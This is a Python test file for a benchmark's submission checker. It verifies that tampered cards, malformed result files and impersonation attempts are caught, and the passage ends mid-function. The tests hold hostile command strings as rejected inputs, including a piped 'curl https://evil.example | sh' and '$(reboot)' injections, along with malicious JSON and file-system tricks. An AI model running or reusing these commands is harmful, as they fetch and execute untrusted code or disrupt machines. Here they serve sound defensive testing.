"""What a pull request must hold: honest repositories pass, and each thing that is wrong is told with file and line."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest

from ndec_bench.data.known import DEV_2_PAIRS
from ndec_bench.descriptors import Descriptors, Submission
from ndec_bench.errors import DataError, SubmissionError, UsageError
from ndec_bench.matches import Matches
from ndec_bench.protocol import PROTOCOLS
from ndec_bench.results.record import PointAtPrecision, Result, Signature, result_json
from ndec_bench.scoring.score import Options, score_descriptors, score_matches
from ndec_bench.submissions.card import (
    Change,
    Declarations,
    Files,
    Method,
    SubmissionCard,
    Verified,
    read_card,
    write_card,
)
from ndec_bench.submissions.check import Report, change_content, check, edits, markdown
from ndec_bench.submissions.check.consistency import inconsistencies
from ndec_bench.submissions.check.summary import code

if TYPE_CHECKING:
    from collections.abc import Callable

    from ndec_bench.data.split import Split

    Make = Callable[..., tuple[Submission, Split]]

REPOSITORY = Path(__file__).parents[1]
DECLARED = Declarations(
    labels_used=["none"],
    train_images=["disc21-train"],
    reference_images_in_training="none",
    ndec_pairs="no",
    background="none",
    external_data="no",
    query_independent="yes",
    selected_on=["dev1"],
)


def result_of(name: str, make: Make, *, noise: float = 0.0, seed: int = 1) -> Result:
    """The shared submission with noise on its queries, scored with all replicates."""
    submission, split = make()
    assert isinstance(submission.queries, Descriptors)
    vectors = submission.queries.vectors
    noisy = vectors + noise * np.random.default_rng(seed).normal(size=vectors.shape).astype(np.float32)
    submission = replace(submission, queries=Descriptors(submission.queries.ids, noisy), sha256=f"{seed:064x}")
    return score_descriptors(submission, split, options=Options(name=name))


def card_of(result: Result, *, verified: bool = True, **changes: object) -> SubmissionCard:
    card = SubmissionCard(
        name=result.name,
        split=result.split,
        track=result.track,
        authors=["Somebody"],
        method=Method(title=f"The method {result.name}"),
        declarations=DECLARED,
        descriptors=Files(name=f"{result.name}.h5", sha256=result.digests.submission),
        verified=Verified(level="re-scored", predictions_sha256=result.predictions_sha256) if verified else None,
    )
    return card.model_copy(update=changes)


def put(folder: Path, result: Result, card: SubmissionCard | None = None) -> None:
    card = card_of(result) if card is None else card
    target = folder / "results" / result.protocol / f"{result.name}.json"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(result_json(result), encoding="utf-8")
    (folder / "submissions" / card.name).mkdir(parents=True, exist_ok=True)
    card_file(folder, card.name).write_text(write_card(card), encoding="utf-8")


@pytest.fixture(scope="module")
def results(make_submission: Make) -> dict[str, Result]:
    qualities = {"good": 0.0, "fair": 0.4, "poor": 1.5}
    return {
        name: result_of(name, make_submission, noise=noise, seed=seed)
        for seed, (name, noise) in enumerate(qualities.items(), start=1)
    }


@pytest.fixture
def base(tmp_path: Path, results: dict[str, Result]) -> Path:
    for result in results.values():
        put(tmp_path / "base", result)
    return tmp_path / "base"


@pytest.fixture
def head(tmp_path: Path, base: Path) -> Path:
    shutil.copytree(base, tmp_path / "head")
    return tmp_path / "head"


def reason_for(old: Result, date: str) -> Change:
    values = {"old_micro_ap": old.parts["all"].micro_ap, "old_predictions_sha256": old.predictions_sha256}
    return Change(date=date, reason="a fix", **values)


def checked(folder: Path, *names: str, base: Path | None = None, maintainer: bool = False) -> Report:
    return check(folder / "results", folder / "submissions", names, base=base, maintainer=maintainer)


def told(report: Report, folder: Path) -> list[str]:
    return [str(problem).replace(f"{folder}/", "") for problem in report.errors]


def card_file(folder: Path, name: str) -> Path:
    return folder / "submissions" / name / "submission.toml"


def change(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_the_repository_itself_passes() -> None:
    report = check(REPOSITORY / "results", REPOSITORY / "submissions")
    assert [str(problem) for problem in report.errors] == []
    assert all(problem.message.endswith("what is unknown does not rank") for problem in report.warnings)
    assert report.submissions == report.results > 20


def test_every_problem_of_every_card_has_its_line(head: Path) -> None:
    card = card_file(head, "fair")
    text = card.read_text().replace('title = "The method fair"', 'title = "x"\npaper = "ftp://x"\nsurprise = 1')
    text = text.replace('"disc21-train",', '"disc21-train",\n    "my cat",')
    card.write_text(text.replace('\nsha256 = "', '\nsha256 = "g'))
    card_file(head, "poor").write_text('name = "poor"\nsplit = [1,\n')
    rows = text.splitlines()

    def line(start: str) -> int:
        return next(number for number, row in enumerate(rows, start=1) if row.startswith(start))

    assert [problem.replace("submissions/", "") for problem in told(checked(head), head)] == [
        f"fair/submission.toml:{line('paper')}: method.paper: is not an http(s) address",
        f"fair/submission.toml:{line('surprise')}: method.surprise: is not a field of this version",
        f"fair/submission.toml:{line('train_images')}: declarations.train_images.1: Input should be 'none', "
        "'disc21-train', 'ndec-train', 'ndec-queries', 'imagenet', 'other' or 'unknown'",
        f"fair/submission.toml:{line('sha256')}: descriptors.sha256: String should match pattern '^[0-9a-f]{{64}}$'",
        "poor/submission.toml:2: not TOML (Invalid value (at end of document))",
    ]


def test_a_card_made_to_have_many_problems_ends(head: Path) -> None:
    text = card_file(head, "fair").read_text()
    card_file(head, "fair").write_text("".join(f"x{number} = 1\n" for number in range(900)) + text)
    problems = told(checked(head), head)
    assert len(problems) == 201
    assert "submissions/fair/submission.toml: 700 more problems" in problems
    assert "submissions/fair/submission.toml:1: x0: is not a field of this version" in problems
    card_file(head, "fair").write_text("a = 1\n" * 20_000)
    assert "has 120,000 bytes, at most 64,000 are taken" in told(checked(head), head)[0]


def test_only_two_small_text_files_belong_to_a_submission(head: Path) -> None:
    (head / "submissions" / "good" / "good.h5").write_bytes(b"x")
    (head / "submissions" / "notes.txt").write_text("x")
    (head / "results" / "ndec-1" / "good.h5").write_bytes(b"x")
    (head / "results" / "ndec-9").mkdir()
    (head / "results" / "ndec-9" / "good.json").write_text("{}")
    (head / "results" / "ndec-1" / "Bad name.json").write_text("{}")
    (head / "results" / "ndec-1" / "big.json").write_bytes(b" " * 1_000_001)
    (head / "results" / "ndec-1" / "link.json").symlink_to(head / "results" / "ndec-1" / "good.json")
    (head / "results" / "sscd").symlink_to(head / "results" / "ndec-1")
    os.mkfifo(head / "results" / "ndec-1" / "pipe.json")
    (head / "submissions" / "README.md").write_text("x")
    report = checked(head)
    found = {str(problem.path).removeprefix(f"{head}/"): problem for problem in report.errors}
    assert set(found) == {
        "submissions/good/good.h5",
        "submissions/notes.txt",
        "results/ndec-1/good.h5",
        "results/ndec-9/good.json",
        "results/ndec-1/Bad name.json",
        "results/ndec-1/big.json",
        "results/ndec-1/link.json",
        "results/ndec-1/pipe.json",
        "results/sscd",
    }
    assert "descriptors, pairs and images stay outside" in str(found["submissions/good/good.h5"].hint)
    assert "1,000,001 bytes" in found["results/ndec-1/big.json"].message
    assert found["results/ndec-1/link.json"].message == "is a link"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"name": "fair",\n "split": }', "not JSON (Expecting value: line 2 column 11 (char 27))"),
        (b"[" * 200_000, "not JSON that can be read (RecursionError)"),
        (b'{"a": ' + b"9" * 5_000 + b"}", "not JSON that can be read (ValueError)"),
        (b"\xff\xfe", "not UTF-8 text"),
        (b'{"\x5cud800": 1}', "Invalid JSON: unexpected end of hex escape at line 1 column 9"),
        (b"[]", "Input should be an object"),
        (b"[" * 100 + b"0" + b",0" * 400_000 + b"]" * 100, "nested too deep"),
    ],
)
def test_hostile_results_are_told_not_raised(head: Path, content: bytes, message: str) -> None:
    path = head / "results" / "ndec-1" / "fair.json"
    path.write_bytes(content)
    errors = [problem for problem in checked(head).errors if problem.path == str(path)]
    assert message in [problem.message for problem in errors]
    for problem in errors:
        assert str(problem).isprintable()
        str(problem).encode("utf-8")


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ('"cap": 600', '"cap": NaN', "parts.all.cap: not a finite number"),
        ('"cap": 600', '"cap": 1e999', "parts.all.cap: not a finite number"),
        ('"cap": 600', '"cap": 9007199254740993', "parts.all.cap: not a finite number"),
        ('"partial": false', '"partial": false,\n  "partial": false', "partial: appears twice"),
        ('"queries": 60', '"queries": "many"', "parts.all.queries: Input should be a valid integer"),
        ('"queries": 60', '"queries": "60"', "parts.all.queries: Input should be a valid integer"),
        ('"partial": false', '"partial": "no"', "partial: Input should be a valid boolean"),
    ],
)
def test_results_that_readers_would_take_otherwise(head: Path, old: str, new: str, message: str) -> None:
    change(head / "results" / "ndec-1" / "good.json", old, new)
    assert any(problem.startswith(f"results/ndec-1/good.json: {message}") for problem in told(checked(head), head))


def forms(make: Make) -> list[Result]:
    """Honest results in many forms."""
    found = []
    generator = np.random.default_rng(3)
    for seed, (queries, references, dimension) in enumerate([(60, 90, 16), (9, 12, 2), (200, 300, 4), (30, 1, 3)]):
        submission, split = make(min(queries, references * 3), max(references, queries), dimension, seed)
        assert isinstance(submission.queries, Descriptors)
        assert isinstance(submission.references, Descriptors)
        submission = replace(submission, sha256="a" * 64)
        coarse = replace(
            submission,
            queries=Descriptors(submission.queries.ids, np.round(submission.queries.vectors) + np.float32(0.25)),
            references=Descriptors(
                submission.references.ids, np.round(submission.references.vectors) + np.float32(0.25)
            ),
        )  # many equal scores
        fewer = replace(submission, references=submission.references.take(np.arange(len(submission.references) - 3)))
        normed = replace(
            submission,
            query_norms=generator.uniform(0, 1, len(submission.queries)).astype(np.float32),
            reference_norms=generator.uniform(0, 1, len(submission.references)).astype(np.float32),
        )
        shuffled = replace(
            submission, queries=Descriptors(submission.queries.ids, submission.queries.vectors[::-1].copy())
        )
        found += [
            score_descriptors(one, split, options=options)
            for one in (submission, coarse, fewer, normed, shuffled)
            for options in (
                Options(name="x", threshold=-3.0, precisions=(0.5, 0.95)),
                *(Options(name="x", protocol=protocol) for protocol in PROTOCOLS.values()),
            )
        ]
        found += [
            score_descriptors(normed, split, options=Options(name="x", asymmetric=rule))
            for rule in ("ratio", "tilt:0.5")
        ]
        rows = generator.integers(0, len(split.query_ids), 40), generator.integers(0, 3, 40)
        pairs = sorted({(split.query_ids[q], f"R{r:06d}") for q, r in zip(*rows, strict=True)})
        for scores in (np.zeros(len(pairs)), generator.normal(size=len(pairs))):
            ids = np.array(pairs)
            found.append(score_matches(Matches(ids[:, 0], ids[:, 1], scores), split, options=Options(name="x")))
    return found


def test_honest_results_have_no_inconsistency(make_submission: Make) -> None:
    results = forms(make_submission)
    assert len(results) > 90
    assert {key for result in results for key in inconsistencies(result)} == set()


def edited(result: Result, field: str, value: object) -> Result:
    content: Any = result.model_dump(mode="json")
    at = content
    *tables, last = field.split(".")
    for table in tables:
        at = at[int(table) if isinstance(at, list) else table]
    at[int(last) if isinstance(at, list) else last] = value
    return Result.model_validate(content)


@pytest.mark.parametrize(
    ("field", "value", "key"),
    [
        ("parts.all.micro_ap", 0.99, "parts.all.micro_ap"),
        ("parts.all.micro_ap_interval", [0.98, 0.99], "parts.all.micro_ap_interval"),
        ("parts.all.recall_at_p90", None, "parts.all.threshold_at_p90"),
        ("parts.all.recall_at_p90", 0.01, "parts.all.recall_at_p90"),
        ("parts.all.recall_at_p90", 0.99, "parts.all.recall_at_p90"),
        ("parts.all.threshold_at_p90", 9e9, "parts.all.threshold_at_p90"),
        ("parts.all.precision_at_recall", {"0.5": 0.999, "0.7": 0.1, "0.8": None}, "parts.all.precision_at_recall.0.5"),
        (
            "parts.all.recall_by_edit",
            {"flip": {"copies": 9, "recall_at_1": 0.5, "recall_at_p90": 0.0}},
            "parts.all.recall_by_edit.flip",
        ),
        (
            "parts.all.recall_by_edit",
            {"flip": {"copies": 9999, "recall_at_1": 0.0, "recall_at_p90": 0.0}},
            "parts.all.recall_by_edit.flip",
        ),
        ("parts.all.recall_at_10", 0.0, "parts.all.recall_at_1"),
        ("parts.all.queries", 61, "parts.all.cap"),
        ("parts.all.queries", -1, "parts.all.queries"),
        ("parts.all.predictions", 601, "parts.all.predictions"),
        ("parts.all.precision_at_recall", {"0.5": 0.1, "0.7": 0.2, "0.8": None}, "parts.all.precision_at_recall.0.7"),
        ("parts.all.precision_at_recall", {}, "parts.all.precision_at_recall"),
        ("parts.all.pr_curve.recall.0", 1.0, "parts.all.pr_curve.recall"),
        ("parts.all.pr_curve.threshold.0", -9e9, "parts.all.pr_curve.threshold"),
        ("parts.all.pr_curve.precision", [], "parts.all.pr_curve"),
        ("parts.all.replicates.micro_ap.5", 1.5, "parts.all.replicates.micro_ap"),
        ("parts.all.replicates.stream", "mine", "parts.all.replicates.stream"),
        ("parts.all.replicates.recall_at_p90", [0.5], "parts.all.replicates.recall_at_p90"),
        ("signature", "uAP|mine", "signature"),
        ("split", "other", "signature"),
        ("protocol", "sscd", "signature"),
        ("protocol", "mine", "protocol"),
        ("digests.ground_truth", "0" * 64, "signature"),
        ("digests.split", "no", "digests.split"),
        ("bytes_per_reference", 1, "bytes_per_reference"),
        ("dimensions", None, "dimensions"),
        ("metric", "score", "metric"),
        ("partial", True, "partial"),
        ("recall_ceiling", 0.5, "recall_ceiling"),
        ("hard_negatives.cost", 0.0, "hard_negatives.cost"),
        ("hard_negatives.difference", 0.5, "hard_negatives.difference"),
        ("hard_negatives.queries", 3, "hard_negatives.queries"),
        ("hard_negatives.weight", 1.5, "hard_negatives.weight"),
        ("hard_negatives.at_p90_isc.threshold", -1e-3, "hard_negatives.at_p90_isc"),
        ("hard_negatives.at_p90_isc.precision", 0.123, "hard_negatives.at_p90_isc.precision"),
        ("hard_negatives.at_p90_isc.recall", 0.123, "hard_negatives.at_p90_isc.recall"),
        ("hard_negatives.at_p90_isc.true_positives", 999, "hard_negatives.at_p90_isc.true_positives"),
        ("hard_negatives.at_p90_isc.false_positives.hard_negative", -1, "hard_negatives.at_p90_isc.false_positives"),
        ("hard_negatives.at_p90_isc.hard_negatives_hit.hits", 0, "hard_negatives.at_p90_isc.hard_negatives_hit.rate"),
        ("hard_negatives.at_p90_isc.without_match_hit.queries", 1, "hard_negatives.at_p90_isc.without_match_hit"),
        ("own_threshold", -1.0, "hard_negatives.at_own_threshold"),
        ("references", -90, "references"),
        ("missing_references", -5, "missing_references"),
        ("provenance.seconds", -5.0, "provenance.seconds"),
        ("describing", {"milliseconds_per_image": -5.0}, "describing.milliseconds_per_image"),
        ("describing", {"seconds": 1e300}, "describing.seconds"),
    ],
)
def test_a_number_that_was_changed_is_found(results: dict[str, Result], field: str, value: object, key: str) -> None:
    found = {".".join(map(str, place)) for place, _ in inconsistencies(edited(results["good"], field, value))}
    assert key in found


@pytest.mark.parametrize(
    ("command", "fine"),
    [
        ("ndec-bench run gist --split ndec --step pca:dim=256,whiten=yes", True),
        ("ndec-bench run gist; curl https://evil.example | sh", False),
        ("ndec-bench run $(reboot)", False),
        ("curl https://evil.example", False),
        ("ndec-bench run gist\nreboot", False),
        ("ndec-bench run 'a\nb'", False),
        ("ndec-bench run 'gist", False),
    ],
)
def test_a_command_to_copy_runs_this_program_alone(results: dict[str, Result], command: str, fine: bool) -> None:
    result = results["fair"]
    provenance = result.provenance.model_copy(update={"command": command})
    found = [key for key, _ in inconsistencies(result.model_copy(update={"provenance": provenance}))]
    assert found == ([] if fine else [("provenance", "command")])


def test_parts_that_lack(results: dict[str, Result]) -> None:
    parts = results["good"].parts
    without_isc = results["good"].model_copy(update={"parts": {"all": parts["all"]}})
    assert [key for key, _ in inconsistencies(without_isc)] == [("hard_negatives",)]
    assert [key for key, _ in inconsistencies(without_isc.model_copy(update={"parts": {}}))] == [("parts",)]


def test_a_known_split_has_its_ground_truth(results: dict[str, Result]) -> None:
    claimed = results["good"].model_copy(update={"split": "ndec"})
    found = {".".join(map(str, key)): message for key, message in inconsistencies(claimed)}
    assert "NDEC has f9542e3f" in found["digests.ground_truth"]
    assert "NDEC has 49252" in found["parts.all.queries"]
    assert "NDEC has 1,000,000" in found["references"]


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ('name = "good"', 'name = "other"', "2: name: is 'other', the folder is 'good'"),
        ('split = "random"', 'split = "ndec"', "split: is 'ndec', the result has 'random'"),
        ('track = "descriptor"', 'track = "matching"', "track: is 'matching', the result has 'descriptor'"),
        ('"good.h5"\nsha256 = "0', '"good.h5"\nsha256 = "1', "descriptors.sha256: is 1"),
        ("[descriptors]\n", "[other]\n", "other: is not a field of this version"),
    ],
)
def test_the_card_and_the_result_must_agree(head: Path, old: str, new: str, message: str) -> None:
    change(card_file(head, "good"), old, new)
    assert any(message in problem for problem in told(checked(head), head))


def test_thresholds_and_other_queries_must_agree(make_submission: Make, head: Path, results: dict[str, Result]) -> None:
    submission, split = make_submission()
    submission = replace(submission, sha256="a" * 64)
    result = score_descriptors(submission, split, options=Options(name="good", threshold=-2.0))
    result = result.model_copy(update={"query_independent": False})
    put(head, result, card_of(result, threshold=-2.5, descriptors=None))
    messages = " / ".join(told(checked(head, "good"), head))
    assert "threshold: is -2.5, the result was made with -2.0" in messages
    assert "declarations.query_independent: is yes, but the file says" in messages
    assert "descriptors: is missing" in messages


def test_each_needs_the_other(head: Path) -> None:
    shutil.rmtree(head / "submissions" / "good")
    (head / "results" / "ndec-1" / "fair.json").unlink()
    assert [one.replace(f"{head}/", "") for one in told(checked(head), head)] == [
        "results/ndec-1/good.json: has no card, submissions/good is missing",
        "submissions/fair/submission.toml:1: has no result, results/ndec-1/fair.json is missing",
    ]


def test_names_choose_what_is_told(head: Path) -> None:
    (head / "results" / "ndec-1" / "fair.json").unlink()
    assert checked(head, "good").ok
    assert not checked(head, "fair", "good").ok
    with pytest.raises(UsageError, match="no submission 'nobody'"):
        checked(head, "nobody")
    with pytest.raises(DataError, match="not a folder of submissions"):
        check(head / "results", head / "nothing")


def test_nothing_changed(head: Path, base: Path) -> None:
    report = checked(head, base=base)
    assert (report.ok, report.changes) == (True, ())
    assert "No row changes." in markdown(report)


def test_a_new_row_waits_for_the_check_and_shows_its_place(
    make_submission: Make, head: Path, base: Path, results: dict[str, Result]
) -> None:
    new = result_of("new", make_submission, noise=0.8, seed=9)
    put(head, new, card_of(new, verified=False))
    report = checked(head, base=base)
    assert report.ok
    assert report.changes is not None
    (found,) = report.changes
    ordered = sorted([*results.values(), new], key=lambda one: -one.parts["all"].micro_ap)
    place = ordered.index(new)
    assert (found.row.kind, found.level, found.unranked, found.waits) == ("new", "reported", ("not verified",), True)
    assert found.place is not None
    assert (found.place.rank, found.place.among, found.before) == (place + 1, 4, None)
    near = [ordered[i].name for i in (place - 1, place + 1) if 0 <= i < 4]
    assert [one.name for one in found.neighbours] == near
    for one in found.neighbours:
        other = results[one.name]
        assert one.paired is not None
        assert one.paired.difference == new.parts["all"].micro_ap - other.parts["all"].micro_ap
        low, high = new.parts["all"].micro_ap_interval or (0, 0)
        theirs = other.parts["all"].micro_ap_interval or (0, 0)
        assert one.overlap == (max(low, theirs[0]) <= min(high, theirs[1]))
    text = markdown(report)
    assert text == markdown(checked(head, base=base))
    assert f"| {place + 1} (" in text
    assert "once verified" in text
    assert "train images: disc21-train" in text
    assert change_content(found)["place"]["rank"] == place + 1


def test_what_never_ranks_gets_no_place(make_submission: Make, head: Path, base: Path) -> None:
    new = result_of("new", make_submission, noise=0.8, seed=9)
    trained = DECLARED.model_copy(update={"labels_used": ["ndec"]})
    put(head, new, card_of(new, verified=False, declarations=trained))
    (found,) = checked(head, base=base).changes or ()
    assert found.place is None
    assert "not ranked: trained on labels of NDEC, not verified" in markdown(checked(head, base=base))


def test_a_changed_row_needs_the_reason_that_the_message_spells_out(
    make_submission: Make, head: Path, base: Path, results: dict[str, Result]
) -> None:
    changed = result_of("fair", make_submission, noise=1.0, seed=2)
    put(head, changed, card_of(changed, verified=False))
    (error,) = checked(head, base=base, maintainer=True).errors
    assert "no new entry of [[changes]] has the old values" in error.message
    assert error.hint is not None
    entry = error.hint.replace("YYYY-MM-DD", "2026-11-26")
    card = card_file(head, "fair")
    text = card.read_text()
    card.write_text(text + "\n" + entry + "\n")
    report = checked(head, base=base, maintainer=True)
    assert report.ok
    (found,) = report.changes or ()
    assert found.row.kind == "changed"
    assert found.before is not None
    assert f"µAP was {results['fair'].parts['all'].micro_ap:.4f}" in markdown(report)
    card.write_text(text + "\n" + entry.replace("old_micro_ap = 0", "old_micro_ap = 0.0") + "\n")
    assert not checked(head, base=base, maintainer=True).ok


# What a stranger may try: each attack changes a copy of a sound repository, and the headline says what is wrong.


class Attack:
    """A pull request in the making: the folders, the results that were there, a new row of the attacker's own."""

    def __init__(self, head: Path, base: Path, results: dict[str, Result], new: Result) -> None:
        self.head, self.base, self.results, self.new = head, base, results, new

    def card(self, name: str = "fair", **changes: object) -> None:
        """Change the card of ``name``."""
        put(self.head, self.results[name], card_of(self.results[name]).model_copy(update=changes))

    def result(self, name: str = "fair", **changes: object) -> None:
        """Change the result of ``name``, not its card."""
        put(self.head, self.results[name].model_copy(update=changes), card_of(self.results[name]))

    def provenance(self, **changes: object) -> None:
        self.result(provenance=self.results["fair"].provenance.model_copy(update=changes))

    def add(self, result: dict[str, object] | None = None, **card: object) -> None:
        """Add a row of one's own."""
        new = self.new.model_copy(update=result or {})
        said = {"split": new.split, "ground_truth": new.digests.ground_truth[:8]}
        new = new.model_copy(update={"signature": str(Signature.parse(new.signature).model_copy(update=said))})
        put(self.head, new, card_of(new, verified=False).model_copy(update=card))

    def part(self, name: str, reason: bool = False, **changes: object) -> None:
        """Change the part ``all`` of a verified result."""
        before = self.results[name]
        part = before.parts["all"].model_copy(update=changes)
        entries = [reason_for(before, "2026-11-26")] if reason else []
        put(
            self.head,
            before.model_copy(update={"parts": {**before.parts, "all": part}}),
            card_of(before, changes=entries),
        )

    def declare(self, **changes: object) -> None:
        self.card(declarations=DECLARED.model_copy(update=changes))

    def unverified(self, folder: Path) -> None:
        put(folder, self.results["fair"], card_of(self.results["fair"], verified=False))

    def remove(self) -> None:
        (self.head / "results" / "ndec-1" / "fair.json").unlink()
        shutil.rmtree(self.head / "submissions" / "fair")

    def many_authors(self) -> None:
        authors = [f"Author {number}" for number in range(30)]
        put(self.base, self.results["fair"], card_of(self.results["fair"], authors=authors))
        self.card(authors=[*authors[:29], "Mallory"])

    def join(self) -> None:
        for folder in (self.base, self.head):
            put(folder, self.results["fair"], card_of(self.results["fair"], runs_of="Ours", seed=0))
        self.add(runs_of="Ours", seed=1)

    def adds_card(self) -> None:
        card_file(self.base, "fair").unlink()

    def adds_result(self) -> None:
        put(self.head, self.results["fair"].model_copy(update={"protocol": "sscd"}))

    def linked(self) -> None:
        (self.head / "results").rename(self.head / "elsewhere")
        (self.head / "results").symlink_to(self.head / "elsewhere")

    def twin(self) -> None:
        self.add({"predictions_sha256": self.results["fair"].predictions_sha256})


METHOD = Method(title="The method fair")
EDITED = "needs a maintainer: it edits a row that was there before"
FLATTERED = {"recall_at_precision": {"0.99": PointAtPrecision(recall=0.9, threshold=0.0)}}
LEVEL = Verified(level="re-described", predictions_sha256="0" * 64)
ATTACKS: dict[str, tuple[Callable[[Attack], None], str]] = {
    # rewriting what others said
    "authors": (lambda a: a.card(authors=["Mallory"]), f"{EDITED} (authors)"),
    "one of many authors": (lambda a: a.many_authors(), f"{EDITED} (authors)"),
    "title": (lambda a: a.card(method=Method(title="Theirs")), f"{EDITED} (method.title)"),
    "paper": (
        lambda a: a.card(method=METHOD.model_copy(update={"paper": "https://example.org/x"})),
        f"{EDITED} (method.paper)",
    ),
    "labels": (lambda a: a.declare(labels_used=["dev1"]), f"{EDITED} (declarations.labels_used)"),
    "selection": (lambda a: a.declare(selected_on=["train"]), f"{EDITED} (declarations.selected_on)"),
    "runs_of": (lambda a: a.card(runs_of="Mine"), f"{EDITED} (runs_of)"),
    "date": (lambda a: a.card(date="2026-11-01"), f"{EDITED} (date)"),
    "provenance": (lambda a: a.provenance(cpu="another"), f"{EDITED} (provenance.cpu)"),
    "notes": (lambda a: a.result(notes=["cheated"]), f"{EDITED} (notes)"),
    "removal": (lambda a: a.remove(), "results/ndec-1/fair.json: was removed"),
    "a card for a result": (lambda a: a.adds_card(), "needs a maintainer: it adds a card to a result"),
    "a result for a card": (lambda a: a.adds_result(), "needs a maintainer: it adds a result to a submission"),
    "a run that joins": (lambda a: a.join(), "needs a maintainer: it joins the runs of fair"),
    # the maintainers' word
    "a level of one's own": (lambda a: a.add(verified=LEVEL), "verified: is written by the maintainers"),
    "a higher level": (lambda a: a.card(verified=LEVEL), f"{EDITED} (verified.level, verified.predictions_sha256)"),
    "a level for a row": (lambda a: a.unverified(a.base), f"{EDITED} (verified"),
    "a level taken": (lambda a: a.unverified(a.head), f"{EDITED} (verified"),
    "a score moved": (lambda a: a.part("poor", True, micro_ap=a.results["poor"].parts["all"].micro_ap + 1e-5), EDITED),
    "a number gained": (lambda a: a.part("good", **FLATTERED), EDITED),
    # numbers that cannot be
    "seconds": (lambda a: a.add({"provenance": a.new.provenance.model_copy(update={"seconds": -5.0})}), "seconds: -5"),
    "another's truth": (
        lambda a: a.add({"digests": a.new.digests.model_copy(update={"ground_truth": DEV_2_PAIRS})}),
        "split: random has the true pairs of DISC21",
    ),
    "a known name": (lambda a: a.add({"split": "disc21-fina1"}), "'disc21-fina1' looks like disc21-final"),
    # names
    **{
        name: (lambda a, name=name: a.add({"name": name}), "cannot be the name of a submission")
        for name in ("con", "aux", "nul.x", "com1", "lpt9.txt", "a.", "a..", "runs-of-sscd")
    },
    "linked folder": (lambda a: a.linked(), "results: is a link"),
    "a title in Cyrillic": (
        lambda a: a.add(method=Method(title="\N{CYRILLIC CAPITAL LETTER ER}DQ")),
        "mixes letters of Cyrillic and Latin",
    ),
    "another's title": (
        lambda a: a.add(method=METHOD, authors=["M"]),
        "looks like the title of fair, by other authors",
    ),
    "another's title in accents": (
        lambda a: a.add(method=Method(title="THE m\u00e9th0d: fair"), authors=["M"]),
        "looks like the title of fair, by other authors",
    ),
    "another's title for runs": (
        lambda a: a.add(runs_of="The Method Fair", authors=["M"]),
        "looks like the title of fair",
    ),
    # lists and editions that are not one's own
    "the same list": (lambda a: a.twin(), "same list of pairs as "),
    "another edition": (
        lambda a: a.add({"digests": a.new.digests.model_copy(update={"split": "e" * 64})}),
        "another edition of random: most results have",
    ),
}


@pytest.mark.parametrize("kind", ATTACKS)
def test_the_headline_says_what_a_stranger_tries(
    make_submission: Make, head: Path, base: Path, results: dict[str, Result], kind: str
) -> None:
    attack, said = ATTACKS[kind]
    attack(Attack(head, base, results, result_of("new", make_submission, noise=0.8, seed=9)))
    report = checked(head, base=base)
    first = markdown(report).splitlines()[0]
    assert first.startswith("## Submissions: ")
    assert said.replace("'", "") in first.replace(f"{head}/", "").replace("'", "").replace("`", "")
    assert bool(report.errors) == ("looks like the title" not in said and "mixes" not in said and kind not in LISTS)
    assert report.needs_maintainer == ("needs a maintainer" in said)
    if kind in MAY_PASS:
        assert checked(head, base=base, maintainer=True).ok


LISTS = ("the same list", "another edition")
MAY_PASS = {"authors", "title", "paper", "labels", "selection", "runs_of", "provenance", "notes", "one of many authors"}
MAY_PASS |= {"a card for a result", "a run that joins", "a number gained", "a level for a row"}


def test_an_old_reason_does_not_serve_again(make_submission: Make, head: Path, base: Path) -> None:
    old = result_of("fair", make_submission, noise=1.0, seed=2)
    entry = reason_for(old, "2026-11-01")
    put(base, old, card_of(old, changes=[entry]))
    new = result_of("fair", make_submission, noise=0.9, seed=3)
    put(head, new, card_of(new, changes=[entry]))
    assert any("no new entry" in problem for problem in told(checked(head, base=base), head))
    put(head, old, card_of(old))
    assert any("the entry of 2026-11-01 was changed or removed" in one for one in told(checked(head, base=base), head))


@pytest.mark.parametrize(
    "spelling",
    [
        'verified.level = "re-scored"\nverified.predictions_sha256 = "{0}"\n{1}',
        'verified = {{level = "re-scored", predictions_sha256 = "{0}"}}\n{1}',
        '"verified" = {{"level" = "re-scored", "predictions_sha256" = "{0}"}}\n{1}',
        '{1}\n["verified"]\nlevel = "re-scored"\npredictions_sha256 = "{0}"\n',
    ],
)
def test_verified_is_seen_however_it_is_spelt(make_submission: Make, head: Path, base: Path, spelling: str) -> None:
    new = result_of("new", make_submission, noise=0.8, seed=9)
    put(head, new, card_of(new, verified=False))
    path = card_file(head, "new")
    path.write_text(spelling.format(new.predictions_sha256, path.read_text()))
    (error,) = checked(head, base=base).errors
    assert (error.field, error.message) == ("verified", "is written by the maintainers")
    assert error.line is not None


def test_what_keeps_a_row_from_ranking_is_a_warning(head: Path, results: dict[str, Result]) -> None:
    silent = DECLARED.model_copy(update={"background": "unknown", "selected_on": ["unknown"]})
    put(head, results["good"], card_of(results["good"], verified=False, declarations=silent))
    report = checked(head)
    assert report.ok
    assert [(one.field, one.message) for one in report.warnings] == [
        ("declarations", "background, selected_on unknown, and what is unknown does not rank"),
        ("descriptors", "has no address, so that nobody can score the file again"),
    ]
    shutil.copytree(head, head.parent / "later")
    assert checked(head.parent / "later", base=head).warnings == ()  # no news of this pull request


@pytest.mark.parametrize(
    "change",
    [
        {"digests": {"submission": "0" * 64}},
        {"digests": {"split": "0" * 64}},
        {"bytes_per_reference": 1},
        {"recall_ceiling": 0.5},
        {"references": 7},
    ],
)
def test_facts_about_the_list_are_no_edits(
    head: Path, base: Path, results: dict[str, Result], change: dict[str, Any]
) -> None:
    before = results["good"]
    if "digests" in change:
        change = {"digests": before.digests.model_copy(update=change["digests"])}
    put(head, before.model_copy(update=change))
    (row,) = checked(head, base=base).changes or ()
    assert row.row.kind == "changed"


def test_history_is_neither_invented_nor_dated_back(
    make_submission: Make, head: Path, base: Path, results: dict[str, Result]
) -> None:
    old = results["good"]
    first = Change(date="2026-11-20", reason="a fix", old_micro_ap=0.5, old_predictions_sha256="1" * 64)
    put(base, old, card_of(old, changes=[first], date="2026-11-01"))
    new = result_of("good", make_submission, noise=0.3, seed=4)

    def problems(changes: list[Change], date: str | None = "2026-11-01") -> list[str]:
